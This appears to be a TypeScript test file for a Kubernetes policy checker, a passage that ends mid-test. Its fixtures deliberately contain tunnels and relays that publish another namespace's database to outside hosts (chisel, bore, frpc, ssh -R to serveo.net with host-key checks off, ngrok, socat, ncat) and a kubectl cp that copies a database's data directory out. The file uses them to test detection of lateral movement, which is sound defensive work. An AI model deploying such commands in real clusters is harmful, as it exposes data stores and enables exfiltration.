/**
 * Issue 20: the built-in policies evaluate an env in parts that cannot relate to each other (partition.ts). The
 * parts must give exactly the findings of one evaluation per env, on inputs written to break a naive split: joins
 * through a shared namespace, an ExternalName chain across namespaces, a Gateway backendRef naming another
 * namespace, ClusterRoles and CRDs declared by another overlay, and lateral-movement rules that need the platform
 * in view.
 */
import { describe, expect, it, vi } from 'vitest';
import { createPolicyCheck, readBundle, sourcesDigest } from '../../src/checks/policy/index.js';
import {
  AUDITED_KUSTOMIZATION_FIELDS,
  AUDITED_POLICY_SOURCES,
  namespaceKeys,
  partitionEnv,
  partitionFacts,
} from '../../src/checks/policy/partition.js';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { asContext, buildEnvInput, buildEnvInputJson, type EnvGroup } from '../../src/checks/policy/input.js';
import { SandboxedPolicy } from '../../src/checks/policy/sandbox.js';
import type { FindingInput, RenderedOverlay, Resource } from '../../src/types.js';
import { overlayFromYaml, runOn } from './helpers.js';

const STORE = (app: string, ns: string): string => `apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: ${app}-db
  namespace: ${ns}
spec:
  template:
    metadata:
      labels:
        app: ${app}-db
    spec:
      containers:
        - name: db
          image: docker.io/postgis/postgis:16-3.4@sha256:${'b'.repeat(64)}
          envFrom:
            - secretRef:
                name: ${app}-db-credentials
---
apiVersion: v1
kind: Service
metadata:
  name: ${app}-db
  namespace: ${ns}
spec:
  selector:
    app: ${app}-db
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: ${app}-default-deny
  namespace: ${ns}
spec:
  podSelector: {}
  policyTypes: [Ingress]
`;

function app(name: string, yaml: string, env = 'prod', layer = 'apps'): RenderedOverlay {
  return overlayFromYaml(yaml, { path: `${layer}/${name}/overlays/${env}`, env, layer, app: name });
}

/** One env (prod) of apps in four namespaces, plus platform overlays of other envs as context. */
function hostileEnv(): RenderedOverlay[] {
  return [
    app('store-a', STORE('store-a', 'team-a')),
    // Same namespace as store-a, another overlay: a Route to its store and a Job using its credentials.
    app(
      'web-a',
      `apiVersion: route.openshift.io/v1
kind: Route
metadata: {name: to-db, namespace: team-a}
spec: {to: {kind: Service, name: store-a-db}}
---
apiVersion: batch/v1
kind: Job
metadata: {name: dump, namespace: team-a}
spec:
  template:
    spec:
      containers:
        - name: dump
          image: quay.io/x/tools@sha256:${'c'.repeat(64)}
          envFrom: [{secretRef: {name: store-a-db-credentials}}]
`,
    ),
    app('store-c', STORE('store-c', 'team-c')),
    // team-b reaches team-c's store through ExternalName team-b → team-d → team-c, and through an HTTPRoute.
    app(
      'alias-d',
      `apiVersion: v1
kind: Service
metadata: {name: hop, namespace: team-d}
spec: {type: ExternalName, externalName: store-c-db.team-c.svc.cluster.local}
`,
    ),
    app(
      'web-b',
      `apiVersion: v1
kind: Service
metadata: {name: alias, namespace: team-b}
spec: {type: ExternalName, externalName: hop.team-d.svc.cluster.local.}
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: alias, namespace: team-b}
spec: {defaultBackend: {service: {name: alias, port: {number: 80}}}}
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: direct, namespace: team-b}
spec:
  rules:
    - backendRefs: [{name: store-c-db, namespace: team-c, port: 5432}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: reader, namespace: team-b}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secret-reader}
subjects: [{kind: ServiceAccount, name: web}]
---
apiVersion: example.kfm.dev/v1
kind: Widget
metadata: {name: w, namespace: team-b}
`,
    ),
    // An Istio VirtualService in team-f reaching team-c's store by its cluster DNS name (joined by the host's labels).
    app(
      'mesh-e',
      `apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: db, namespace: team-f}
spec:
  hosts: [db.example.org]
  gateways: [istio-system/public]
  tcp: [{route: [{destination: {host: store-c-db.team-c.svc.cluster.local}}]}]
`,
    ),
    // Other ingress controllers' routes naming another namespace's store: an Emissary Mapping by its service host, a
    // Gloo VirtualService through an Upstream (its kube.serviceNamespace), ingress-nginx's tcp-services entry.
    app(
      'edge-g',
      `apiVersion: getambassador.io/v3alpha1
kind: Mapping
metadata: {name: db, namespace: team-g}
spec: {prefix: /db/, service: "http://store-c-db.team-c:5432"}
`,
    ),
    app(
      'gloo-h',
      `apiVersion: gloo.solo.io/v1
kind: Upstream
metadata: {name: db, namespace: team-h}
spec: {kube: {serviceName: store-c-db, serviceNamespace: team-c, servicePort: 5432}}
---
apiVersion: gateway.solo.io/v1
kind: VirtualService
metadata: {name: db, namespace: team-i}
spec:
  virtualHost:
    domains: ["*"]
    routes: [{routeAction: {single: {upstream: {name: db, namespace: team-h}}}}]
`,
    ),
    app(
      'tcp-j',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: tcp-services, namespace: team-j}
data: {"5432": "team-a/store-a-db:5432"}
`,
    ),
    // A cloudflared tunnel publishing another namespace's store: by its config (a ConfigMap) and by --url.
    app(
      'tunnel-k',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: cloudflared, namespace: team-k}
data:
  config.yaml: |
    tunnel: t
    ingress:
      - hostname: db.example.com
        service: tcp://store-c-db.team-c.svc:5432
      - service: http_status:404
`,
    ),
    app(
      'tunnel-l',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: cloudflared, namespace: team-l}
spec:
  template:
    spec:
      containers:
        - name: cloudflared
          image: cloudflare/cloudflared@sha256:${'d'.repeat(64)}
          args: [tunnel, --url, "http://store-a-db.team-a:5432"]
`,
    ),
    // Other tunnel agents publishing another namespace's store: a chisel reverse remote and bore's -l (team-a's), an
    // inlets upstream mapping, frpc's -i in a shell script and an frpc configuration in a ConfigMap (team-c's).
    app(
      'agents-s',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: agents, namespace: team-s}
spec:
  template:
    spec:
      containers:
        - name: chisel
          image: jpillora/chisel@sha256:${'d'.repeat(64)}
          args: [client, "https://t.example.com", "R:6432:store-a-db.team-a:5432"]
        - name: bore
          image: ekzhang/bore@sha256:${'d'.repeat(64)}
          command: [bore]
          args: [local, "5432", -l, store-a-db.team-a, --to, bore.pub]
`,
    ),
    app(
      'agents-u',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: agents, namespace: team-u}
spec:
  template:
    spec:
      containers:
        - name: inlets
          image: ghcr.io/inlets/inlets-pro@sha256:${'d'.repeat(64)}
          args: [http, client, --upstream, "a.example.com=http://store-c-db.team-c:5432"]
        - name: frpc
          image: alpine@sha256:${'d'.repeat(64)}
          command: [sh, -c, "exec frpc tcp -s frp.example.com:7000 -i store-c-db.team-c -l 5432 -r 6000"]
`,
    ),
    // A rathole client configuration publishing another namespace's store (team-a's).
    app(
      'rathole-w',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: rathole, namespace: team-w}
data:
  client.toml: |
    [client]
    remote_addr = "tunnel.example.com:2333"
    [client.services.db]
    token = "t"
    local_addr = "store-a-db.team-a:5432"
`,
    ),
    // A gost remote port forward publishing another namespace's store (team-a's).
    app(
      'gost-x',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: gost, namespace: team-x}
spec:
  template:
    spec:
      containers:
        - name: gost
          image: gogost/gost@sha256:${'d'.repeat(64)}
          args: [-L, "rtcp://:6000/store-a-db.team-a:5432", -F, "relay+tls://t.example.com:443"]
`,
    ),
    // A zrok private share of another namespace's store (team-a's).
    app(
      'zrok-y',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: zrok, namespace: team-y}
spec:
  template:
    spec:
      containers:
        - name: zrok
          image: openziti/zrok@sha256:${'d'.repeat(64)}
          args: [share, private, --backend-mode, tcpTunnel, "store-a-db.team-a:5432"]
`,
    ),
    // An ssh remote forward publishing another namespace's store, in a shell script (team-a's).
    app(
      'ssh-v',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: ssh, namespace: team-v}
spec:
  template:
    spec:
      containers:
        - name: ssh
          image: alpine@sha256:${'d'.repeat(64)}
          command: [sh, -c, "ssh -o StrictHostKeyChecking=no -NR 80:store-a-db.team-a:5432 serveo.net"]
`,
    ),
    // The same as an ssh option, in the configuration's own two-argument form (team-c's store).
    app(
      'ssh-option-z',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: ssh-option, namespace: team-z}
spec:
  template:
    spec:
      containers:
        - name: ssh
          image: alpine@sha256:${'d'.repeat(64)}
          command: [autossh, -M, "0", -N, -o, "RemoteForward 80 store-c-db.team-c:5432", x@a.pinggy.io]
`,
    ),
    // team-c's store admits the governed API of namespace api-g, named by its namespaceSelector (KFM-TM-004 asks
    // whether the API runs there: without the join, a part without api-g's Deployment would report it).
    app(
      'allow-c',
      `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: store-c-allow-api, namespace: team-c}
spec:
  podSelector: {matchLabels: {app: store-c-db}}
  policyTypes: [Ingress]
  ingress:
    - from:
        - namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: api-g}}
          podSelector: {matchLabels: {kfm.dev/governed-api: "true"}}
`,
    ),
    app(
      'api-g',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: api, namespace: api-g}
spec:
  template:
    metadata: {labels: {app: api, kfm.dev/governed-api: "true"}}
    spec:
      containers:
        - name: api
          image: quay.io/kfm/api@sha256:${'e'.repeat(64)}
`,
    ),
    // Relays: a socat and a netcat relay of other namespaces' stores (team-c's, team-a's).
    app(
      'relay-q',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: socat, namespace: team-q}
spec:
  template:
    spec:
      containers:
        - name: socat
          image: alpine/socat@sha256:${'d'.repeat(64)}
          args: ["TCP-LISTEN:9000,fork", "TCP:store-c-db.team-c.svc:5432"]
`,
    ),
    app(
      'relay-p',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: ncat, namespace: team-pp}
spec:
  template:
    spec:
      containers:
        - name: ncat
          image: alpine@sha256:${'d'.repeat(64)}
          command: [ncat, -lk, "9000", --sh-exec, "ncat store-a-db.team-a 5432"]
`,
    ),
    app(
      'frpc-t',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: frpc, namespace: team-t}
data:
  frpc.toml: |
    serverAddr = "frp.example.com"
    [[proxies]]
    name = "db"
    type = "tcp"
    localIP = "store-c-db.team-c.svc"
    localPort = 5432
    remotePort = 6000
`,
    ),
    // An ssh client configuration whose RemoteForward publishes another namespace's store (team-a's).
    app(
      'sshconf-o',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: ssh-config, namespace: team-oo}
data:
  ssh_config: |
    Host tunnel
      HostName serveo.net
      RemoteForward 80 store-a-db.team-a:5432
`,
    ),
    // A gost configuration whose remote forward service publishes another namespace's store (team-c's).
    app(
      'gostconf-n',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: gost-config, namespace: team-nn}
data:
  gost.yaml: |
    services:
      - name: db
        addr: ":5432"
        handler: {type: rtcp}
        listener: {type: rtcp, chain: relay}
        forwarder:
          nodes:
            - {name: target, addr: "store-c-db.team-c.svc:5432"}
`,
    ),
    // A reverse proxy's configurations forwarding to other namespaces' stores: nginx through a variable (team-a's),
    // HAProxy (team-c's).
    app(
      'proxyconf-k',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: proxy-config, namespace: team-kk}
data:
  default.conf: |
    server {
      listen 8081;
      set $files store-a-db.team-a;
      location / { proxy_pass http://$files:5432; }
    }
`,
    ),
    app(
      'proxyconf-m',
      `apiVersion: v1
kind: ConfigMap
metadata: {name: proxy-config, namespace: team-mm}
data:
  haproxy.cfg: |
    listen db
      bind :5432
      server db1 store-c-db.team-c.svc:5432 check
`,
    ),
    // kubectl port-forward to another namespace's store: its Service (team-a's), a pod of it (team-c's).
    app(
      'pf-svc-q',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: pf-svc, namespace: team-qq}
spec:
  template:
    spec:
      containers:
        - name: pf
          image: registry.k8s.io/kubectl@sha256:${'e'.repeat(64)}
          command: [kubectl, port-forward, -n, team-a, --address, 0.0.0.0, svc/store-a-db, "5432"]
`,
    ),
    app(
      'pf-pod-r',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: pf-pod, namespace: team-rr}
spec:
  template:
    spec:
      containers:
        - name: pf
          image: registry.k8s.io/kubectl@sha256:${'e'.repeat(64)}
          command: [sh, -c, "kubectl --namespace=team-c port-forward pod/store-c-db-0 5432 & sleep infinity"]
`,
    ),
    // kubectl cp out of another namespace's store pod (team-a's).
    app(
      'cp-s',
      `apiVersion: batch/v1
kind: Job
metadata: {name: copy, namespace: team-ss}
spec:
  template:
    spec:
      containers:
        - name: cp
          image: registry.k8s.io/kubectl@sha256:${'e'.repeat(64)}
          command: [kubectl, cp, "team-a/store-a-db-0:/var/lib/postgresql/data", /tmp/data]
`,
    ),
    // ngrok: an AgentEndpoint publishing another namespace's store.
    app(
      'ngrok-r',
      `apiVersion: ngrok.k8s.ngrok.com/v1alpha1
kind: AgentEndpoint
metadata: {name: db, namespace: team-r}
spec: {url: "tcp://1.tcp.ngrok.io:20000", upstream: {url: "tcp://store-a-db.team-a:5432"}}
`,
    ),
    // Gloo routes to a store's discovered Upstream (named <namespace>-<service>-<port>), and to a static Upstream
    // naming a store by its cluster DNS name.
    app(
      'gloo-m',
      `apiVersion: gateway.solo.io/v1
kind: VirtualService
metadata: {name: db, namespace: team-m}
spec:
  virtualHost:
    domains: ["*"]
    routes: [{routeAction: {single: {upstream: {name: team-c-store-c-db-5432, namespace: gloo-system}}}}]
`,
    ),
    app(
      'gloo-n',
      `apiVersion: gloo.solo.io/v1
kind: Upstream
metadata: {name: static-db, namespace: team-n}
spec: {static: {hosts: [{addr: store-a-db.team-a, port: 5432}]}}
---
apiVersion: gateway.solo.io/v1
kind: RouteTable
metadata: {name: db, namespace: team-n}
spec:
  routes: [{routeAction: {single: {upstream: {name: static-db}}}}]
`,
    ),
    // Gloo's TCP gateway to a store's discovered Upstream.
    app(
      'gloo-q',
      `apiVersion: gateway.solo.io/v1
kind: Gateway
metadata: {name: tcp, namespace: team-q}
spec:
  bindPort: 5432
  tcpGateway:
    tcpHosts: [{name: db, destination: {single: {upstream: {name: team-c-store-c-db-5432}}}}]
`,
    ),
    // A Secret of team-rp mirroring team-c's store credentials (kubernetes-replicator).
    app(
      'mirror-r',
      `apiVersion: v1
kind: Secret
metadata:
  name: copy
  namespace: team-rp
  annotations: {replicator.v1.mittwald.de/replicate-from: team-c/store-c-db-credentials}
`,
    ),
    // A Skupper Connector of team-sk binding team-c's store Service to a routing key.
    app(
      'skupper-k',
      `apiVersion: skupper.io/v2alpha1
kind: Connector
metadata: {name: db, namespace: team-sk}
spec: {routingKey: db, port: 5432, host: store-c-db.team-c.svc.cluster.local}
`,
    ),
    // An Ingress of team-sn whose ingress-nginx server snippet proxies to team-c's store.
    app(
      'snippet-i',
      `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: snippet
  namespace: team-sn
  annotations:
    nginx.ingress.kubernetes.io/server-snippet: "location /db { proxy_pass http://store-c-db.team-c.svc:5432; }"
spec: {defaultBackend: {service: {name: web, port: {number: 80}}}}
`,
    ),
    // A selector-less Service without a namespace routed to hand-written Endpoints (no namespace either, another
    // overlay) at an in-cluster address.
    app(
      'manual-o',
      `apiVersion: v1
kind: Endpoints
metadata: {name: legacy}
subsets: [{addresses: [{ip: 10.244.3.9}], ports: [{port: 5432}]}]
`,
    ),
    app(
      'edge-p',
      `apiVersion: v1
kind: Service
metadata: {name: legacy}
spec: {ports: [{port: 5432}]}
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: legacy}
spec: {defaultBackend: {service: {name: legacy, port: {number: 5432}}}}
`,
    ),
    // Declared by an overlay of another part: a ClusterRole, a CRD making Widget cluster-scoped, an
    // AdminNetworkPolicy opening team-a's store (cluster-scoped, selecting namespaces by label) and a
    // ClusterRoleBinding giving team-b's ServiceAccount pods/exec in every namespace (both stores), and a Kyverno
    // ClusterPolicy mutating the Services of team-c's namespace at admission.
    app(
      'cluster-bits',
      `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: secret-reader}
rules: [{apiGroups: [""], resources: [secrets], verbs: [get, list]}]
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: widgets.example.kfm.dev}
spec:
  group: example.kfm.dev
  scope: Cluster
  names: {kind: Widget, plural: widgets}
  versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}]
---
apiVersion: policy.networking.k8s.io/v1alpha1
kind: AdminNetworkPolicy
metadata: {name: open-stores}
spec:
  priority: 10
  subject: {namespaces: {matchLabels: {kubernetes.io/metadata.name: team-a}}}
  ingress: [{name: all, action: Allow, from: [{namespaces: {}}]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: store-exec}
rules: [{apiGroups: [""], resources: [pods/exec], verbs: [create]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: web-exec}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: store-exec}
subjects: [{kind: ServiceAccount, name: web, namespace: team-b}]
---
apiVersion: cilium.io/v2
kind: CiliumClusterwideNetworkPolicy
metadata: {name: world-to-team-c}
spec:
  endpointSelector: {matchLabels: {k8s:io.kubernetes.pod.namespace: team-c}}
  ingress: [{fromEntities: [world]}]
---
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: {name: expose}
spec:
  rules:
    - name: lb
      match: {any: [{resources: {kinds: [Service], namespaces: [team-c]}}]}
      mutate: {patchStrategicMerge: {spec: {type: LoadBalancer}}}
`,
      'prod',
      'core',
    ),
    // cni-store's store admits the governed API of cni-api through a Cilium policy (KFM-TM-015): cni-api runs it, which
    // only a part that holds cni-api's overlay can tell.
    app('store-s', STORE('store-s', 'cni-store')),
    app(
      'cnp-s',
      `apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: {name: api-in, namespace: cni-store}
spec:
  endpointSelector: {}
  ingress:
    - fromEndpoints: [{matchLabels: {kfm.dev/governed-api: "true", k8s:io.kubernetes.pod.namespace: cni-api}}]
---
apiVersion: projectcalico.org/v3
kind: NetworkPolicy
metadata: {name: api-in-calico, namespace: cni-store}
spec:
  selector: all()
  ingress: [{action: Allow, source: {selector: "kfm.dev/governed-api == 'true'", namespaceSelector: "projectcalico.org/name == 'cni-api'"}}]
`,
    ),
    app(
      'api-t',
      `apiVersion: apps/v1
kind: Deployment
metadata: {name: api, namespace: cni-api}
spec:
  template:
    metadata: {labels: {kfm.dev/governed-api: "true"}}
    spec: {containers: [{name: api, image: "quay.io/kfm/api@sha256:${'d'.repeat(64)}"}]}
`,
    ),
    // A store run by an OpenKruise CloneSet, published by a cloudflared a CloneSet runs in another namespace: the
    // rules take both for workloads (k8s.rego generic_templates), and so must the partition (runsPods).
    app(
      'kruise-u',
      `apiVersion: apps.kruise.io/v1alpha1
kind: CloneSet
metadata: {name: kdb, namespace: kruise-db}
spec:
  template:
    metadata: {labels: {app: kdb}}
    spec: {containers: [{name: db, image: "docker.io/postgis/postgis@sha256:${'b'.repeat(64)}"}]}
---
apiVersion: v1
kind: Service
metadata: {name: kdb, namespace: kruise-db}
spec: {selector: {app: kdb}, ports: [{port: 5432}]}
`,
    ),
    app(
      'kruise-v',
      `apiVersion: apps.kruise.io/v1alpha1
kind: CloneSet
metadata: {name: cloudflared, namespace: kruise-edge}
spec:
  template:
    spec:
      containers:
        - name: cloudflared
          image: cloudflare/cloudflared@sha256:${'d'.repeat(64)}
          args: [tunnel, --url, "tcp://kdb.kruise-db.svc:5432"]
`,
    ),
    // Route kinds of products the rules do not know by name (route_to_store.rego generic_route_backends), reaching
    // gen-db's store from their own namespaces by serviceNamespace and by a cluster DNS name.
    app('gen-db', STORE('gdb', 'gen-db')),
    app(
      'gen-route-a',
      `apiVersion: zalando.org/v1
kind: RouteGroup
metadata: {name: db, namespace: gen-edge-a}
spec:
  backends: [{name: pg, type: service, serviceName: gdb-db, serviceNamespace: gen-db, servicePort: 5432}]
`,
    ),
    app(
      'gen-route-b',
      `apiVersion: example.com/v1
kind: TCPProxy
metadata: {name: db, namespace: gen-edge-b}
spec:
  upstream: {service: "gdb-db.gen-db.svc.cluster.local:5432"}
`,
    ),
    // A namespace without default-deny in prod (lateral movement): needs the platform in view.
    app('lonely', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: team-e}\ndata: {a: b}\n`),
    // Platform of another env: default-deny for team-b and team-d only (context, never judged here).
    app(
      'baseline',
      `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: deny, namespace: team-b}
spec: {podSelector: {}, policyTypes: [Ingress]}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: deny, namespace: team-d}
spec: {podSelector: {}, policyTypes: [Ingress]}
`,
      'baseline',
      'core',
    ),
  ];
}

const brief = (f: FindingInput): string =>
  JSON.stringify([f.ruleId, f.overlay, f.resource?.id.kind, f.resource?.id.name, f.path, f.message]);

/** Every line of the shipped rules' code (test files aside), its comment removed: `file:line` and the code. */
function ruleCode(): { at: string; code: string }[] {
  const dir = join(__dirname, '..', '..', 'policies');
  const files = (readdirSync(dir, { recursive: true }) as string[]).filter(
    (f) => f.endsWith('.rego') && !f.endsWith('_test.rego'),
  );
  return files.flatMap((f) =>
    readFileSync(join(dir, f), 'utf8')
      .split('\n')
      .map((line, i) => ({ at: `${f}:${i + 1}`, code: line.replace(/#.*$/, '') })),
  );
}

describe('policy partition (issue 20)', () => {
  it('joins an ssh RemoteForward option by its host in every spelling route_to_store.rego reads', () => {
    for (const option of [
      'RemoteForward=80:store-a-db.team-a:5432',
      'RemoteForward 80 store-a-db.team-a:5432',
      'RemoteForward = 80 store-a-db.team-a:5432',
    ]) {
      const ssh = {
        kind: 'Deployment',
        metadata: { name: 'ssh', namespace: 'team-z' },
        spec: {
          template: {
            spec: {
              containers: [{ name: 'ssh', image: 'alpine', command: ['ssh', '-N', '-o', option, 'x@serveo.net'] }],
            },
          },
        },
      };
      expect(namespaceKeys(ssh)).toContain('team-a');
    }
  });

  it('the shipped rules are the audited ones: a Rego change needs the audit in docs/checks/policy.md redone', async () => {
    const bundle = await readBundle();
    expect(
      bundle.manifest.sourcesSha256,
      'policies/ changed: redo the partition audit (docs/checks/policy.md), then update AUDITED_POLICY_SOURCES',
    ).toBe(AUDITED_POLICY_SOURCES);
    expect(await sourcesDigest()).toBe(AUDITED_POLICY_SOURCES);
  });

  it('gives the audited rules only the kustomization fields they read', () => {
    // The built-in input carries only AUDITED_KUSTOMIZATION_FIELDS of each kustomization (policy/input.ts): every
    // reach for an overlay's `kustomization` in the rules' code (comments and test files aside) must be a lookup of
    // one of those fields, or this test fails with the place to audit.
    const lines = ruleCode();
    expect(new Set(lines.map((l) => l.at.split(':')[0])).size).toBeGreaterThan(10);
    const reads: string[] = [];
    for (const { at, code } of lines) {
      // A key spelled exactly ("kustomization", then the field), or the object reached another way (whole).
      for (const m of code.matchAll(/"kustomization"(?:\s*,\s*"(\w+)")?|\.kustomization\b|\bkustomization\s*\[/g))
        reads.push(`${at}:${m[1] ?? '(whole)'}`);
    }
    expect(reads.length).toBeGreaterThan(0);
    for (const r of reads) expect(AUDITED_KUSTOMIZATION_FIELDS, r).toContain(r.split(':')[2]);
  });

  it('gives context CRDs without their schemas, which no rule reads (a rule reaching for them fails this test)', () => {
    // asContext (policy/input.ts) drops `spec.versions[].schema` and `spec.validation` of a CRD given as context: every
    // reach in the rules' code for those keys (comments and test files aside) is listed here, and there must be none.
    // The walks of a spec (lib/k8s.rego spec_image_containers, the containers of any kind with a spec, for DP-001/002;
    // lib/stores.rego own_spec_secret_refs, for TM-005) refuse CustomResourceDefinitions on the line before: they never
    // reach a CRD's schemas.
    const code = ruleCode();
    const reads = code
      .filter(({ code: line }, k) => {
        if (!/\b(versions|schema|validation|openAPIV3Schema)\b|\bwalk\(/.test(line)) return false;
        const guarded =
          /\bwalk\(r\.spec,/.test(line) &&
          code.slice(Math.max(0, k - 2), k).some((c) => /r\.kind != "CustomResourceDefinition"/.test(c.code));
        return !guarded;
      })
      .map(({ at }) => at);
    expect(reads).toEqual([]);
    const crd = {
      apiVersion: 'apiextensions.k8s.io/v1',
      kind: 'CustomResourceDefinition',
      metadata: { name: 'widgets.example.kfm.dev', labels: { a: 'b' } },
      spec: {
        group: 'example.kfm.dev',
        names: { kind: 'Widget', plural: 'widgets' },
        scope: 'Cluster',
        validation: { openAPIV3Schema: { type: 'object' } },
        versions: [{ name: 'v1', served: true, schema: { openAPIV3Schema: { type: 'object' } }, storage: true }, 'odd'],
      },
    };
    expect(JSON.stringify(asContext(crd))).toBe(
      JSON.stringify({
        apiVersion: 'apiextensions.k8s.io/v1',
        kind: 'CustomResourceDefinition',
        metadata: { name: 'widgets.example.kfm.dev', labels: { a: 'b' } },
        spec: {
          group: 'example.kfm.dev',
          names: { kind: 'Widget', plural: 'widgets' },
          scope: 'Cluster',
          versions: [{ name: 'v1', served: true, storage: true }, 'odd'],
        },
      }),
    );
    expect(crd.spec.versions[0]).toHaveProperty('schema'); // the resource's own object is left as it is
    const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c' }, spec: { versions: [{ schema: 1 }] } };
    expect(asContext(cm)).toBe(cm);
    // Both ways of writing an env's input give it the same context; a part's own CRD is given whole.
    const rendered = overlayFromYaml(JSON.stringify(crd));
    const [own] = rendered.resources;
    const context = overlayFromYaml(JSON.stringify(crd), { path: 'core/crds', layer: 'core', env: 'prod' }).resources;
    const group: EnvGroup = { env: 'dev', members: [{ rendered, kustomization: null }] };
    const json = JSON.parse(Buffer.from(buildEnvInputJson(group, context, [], {}).json).toString('utf8')) as {
      resources: unknown[];
      shared: unknown[];
    };
    expect(json).toEqual(
      JSON.parse(
        JSON.stringify(
          buildEnvInput(
            group,
            context.map((r) => r.object),
            [],
            {},
          ),
        ),
      ),
    );
    expect(json.resources[0]).toEqual(own.object);
    expect(json.shared[0]).toEqual(asContext(crd));
  });

  it('splits an env into parts joined by namespace, ExternalName labels and namespace fields', () => {
    const overlays = hostileEnv().filter((o) => o.overlay.env === 'prod');
    const group: EnvGroup = { env: 'prod', members: overlays.map((rendered) => ({ rendered, kustomization: null })) };
    const parts = partitionEnv(group, [], { partition: true });
    const names = parts.map((p) => p.group.members.map((m) => m.rendered.overlay.app));
    expect(names).toEqual([
      [
        'store-a',
        'web-a',
        'tcp-j',
        'tunnel-l',
        'agents-s',
        'rathole-w',
        'gost-x',
        'zrok-y',
        'ssh-v',
        'relay-p',
        'sshconf-o',
        'proxyconf-k',
        'pf-svc-q',
        'cp-s',
        'ngrok-r',
        'gloo-n',
      ],
      [
        'store-c',
        'alias-d',
        'web-b',
        'mesh-e',
        'edge-g',
        'gloo-h',
        'tunnel-k',
        'agents-u',
        'ssh-option-z',
        'allow-c',
        'api-g',
        'relay-q',
        'frpc-t',
        'gostconf-n',
        'proxyconf-m',
        'pf-pod-r',
        'gloo-m',
        'gloo-q',
        'mirror-r',
        'skupper-k',
        'snippet-i',
        // Joined by the tunnel URL's DNS labels (`svc` among them: over-approximating).
        'kruise-u',
        'kruise-v',
        'gen-db',
        'gen-route-a',
        'gen-route-b',
      ],
      ['manual-o', 'edge-p'],
      ['cluster-bits'],
      ['store-s', 'cnp-s', 'api-t'],
      ['lonely'],
    ]);
    // Global kinds of other parts are context everywhere; an overlay is judged in one part only.
    expect(parts[0].shared.map((r) => r.id.kind)).toEqual([
      'ClusterRole',
      'CustomResourceDefinition',
      'AdminNetworkPolicy',
      'ClusterRole',
      'ClusterRoleBinding',
      'CiliumClusterwideNetworkPolicy',
      'ClusterPolicy',
    ]);
    expect(parts[3].shared).toEqual([]);
    expect(partitionEnv(group, [], { partition: false })).toHaveLength(1);
  });

  it('gives a part without platform objects one of the env, when the env had the platform in view', () => {
    const lonely = app('lonely', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: team-e}\n`);
    const other = app('other', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: team-f}\n`);
    const [context] = app(
      'limits',
      `apiVersion: v1\nkind: LimitRange\nmetadata: {name: l, namespace: team-z}\n`,
      'team-z',
      'core',
    ).resources;
    const group: EnvGroup = {
      env: 'prod',
      members: [lonely, other].map((rendered) => ({ rendered, kustomization: null })),
    };
    const parts = partitionEnv(group, [context], { partition: true });
    expect(parts).toHaveLength(2);
    for (const p of parts) expect(p.shared).toEqual([context]);
    expect(partitionEnv(group, [], { partition: true }).every((p) => p.shared.length === 0)).toBe(true);
  });

  it('shares equal facts between resources, never facts of a different key list (a namespace may hold any character)', () => {
    const res = (object: Record<string, unknown>): Resource =>
      ({ id: { apiVersion: 'v1', kind: String(object.kind), name: 'x' }, object }) as unknown as Resource;
    const a = partitionFacts(res({ kind: 'ConfigMap', metadata: { name: 'x', namespace: 'team-a' } }));
    const b = partitionFacts(res({ kind: 'Secret', metadata: { name: 'y', namespace: 'team-a' } }));
    expect(b).toBe(a);
    // One namespace spelling two keys joined by a separator is not those two keys.
    const joined = partitionFacts(res({ kind: 'ConfigMap', metadata: { name: 'x', namespace: 'p\u0000q' } }));
    const pair = partitionFacts(
      res({ kind: 'ConfigMap', metadata: { name: 'x', namespace: 'p' }, data: { namespace: 'q' } }),
    );
    expect(joined.keys).toEqual(['p\u0000q']);
    expect(pair.keys).toEqual(['p', 'q']);
    const comma = partitionFacts(res({ kind: 'ConfigMap', metadata: { name: 'x', namespace: 'p","q' } }));
    expect(comma.keys).toEqual(['p","q']);
    // Shared facts cannot be changed by one holder.
